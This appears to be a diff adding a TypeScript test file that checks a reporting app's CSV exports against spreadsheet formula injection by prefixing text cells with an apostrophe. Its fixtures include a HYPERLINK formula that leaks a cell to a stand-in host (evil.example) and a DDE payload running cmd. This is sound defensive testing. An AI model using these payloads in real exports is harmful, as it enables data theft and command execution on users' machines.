@@ -1,0 +1,69 @@
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { buildGroupReport, buildReport, reportPeriods } from '../../../sync/contract';
+import { toCsv } from '../../../src/lib/csv';
+import { reportCsvRows } from '../../../src/features/reports/components/report-table';
+import { groupReportCsvRows } from '../../../src/features/reports/components/group-report-table';
+
+/*
+ * The CSV exports of part 2 (report.csv, group-report.csv; section 9) are opened in a
+ * spreadsheet. A cell beginning with =, +, -, @, a tab or a carriage return is read there
+ * as a formula, so a center named '=HYPERLINK(...)' would be a live link in the export:
+ * every such text cell is written with a leading apostrophe. Counts are numbers and are
+ * written as they are (a number is never a formula, and -5 stays -5).
+ */
+
+const formulas = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+];
+const startsAsFormula = /^[=+\-@\t\r]/;
+
+/** The cells of an export as a spreadsheet reads them (the BOM dropped). */
+const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();
+
+describe('CSV exports hold no live formula', () => {
+  it('toCsv: text beginning with =, +, -, @, tab or carriage return gets a leading apostrophe; numbers stay numbers', () => {
+    const csv = toCsv([formulas, [-5, 0, 12, 'a=b', 'plain', null]]);
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    const [texts, numbers] = Papa.parse<string[]>(csv.slice(1)).data;
+    expect(texts).toEqual(formulas.map((f) => `'${f}`));
+    expect(numbers).toEqual(['-5', '0', '12', 'a=b', 'plain', '']);
+    // Our choice: a number given as text is text, and is neutralised like any other.
+    expect(cellsOf(toCsv([['-5']]))).toEqual(["'-5"]);
+  });
+
+  it('group-report.csv: a center named as a formula is text in the export; the counts stay numbers', () => {
+    const periods = reportPeriods('2024-04-01', '2025-03-31', '2025-06-30');
+    const centers = formulas.map((name, i) => ({ id: i + 2, name }));
+    const answer = buildGroupReport(
+      new Map([['2|education|Male', 4]]),
+      periods,
+      centers,
+      new Map([[3, { male: 2, female: 1 }]]),
+    );
+    const csv = toCsv(groupReportCsvRows(answer));
+    const [header] = Papa.parse<string[]>(csv.slice(1)).data;
+    expect(header).toEqual(['Category', ...formulas.map((f) => `'${f}`), 'Total']);
+    expect(cellsOf(csv).filter((cell) => startsAsFormula.test(cell))).toEqual([]);
+    expect(csv).toContain('\r\nPrevious balance,0,3,0,0,0,0,3\r\n');
+  });
+
+  it('report.csv: a category title read as a formula is text in the export; the counts stay numbers', () => {
+    const periods = reportPeriods('2024-04-01', '2025-03-31', '2025-06-30');
+    const answer = buildReport(new Map(), periods, {
+      centerId: 2,
+      center_name: formulas[0]!,
+      balance: { male: 3, female: 4 },
+    });
+    answer.categories = answer.categories.map((c, i) => ({ ...c, title: formulas[i % formulas.length]! }));
+    const csv = toCsv(reportCsvRows(answer));
+    expect(cellsOf(csv).filter((cell) => startsAsFormula.test(cell))).toEqual([]);
+    expect(cellsOf(csv)).toContain(`'${formulas[0]}`);
+    expect(csv).toContain('\r\nPrevious balance,3,4,7');
+  });
+});
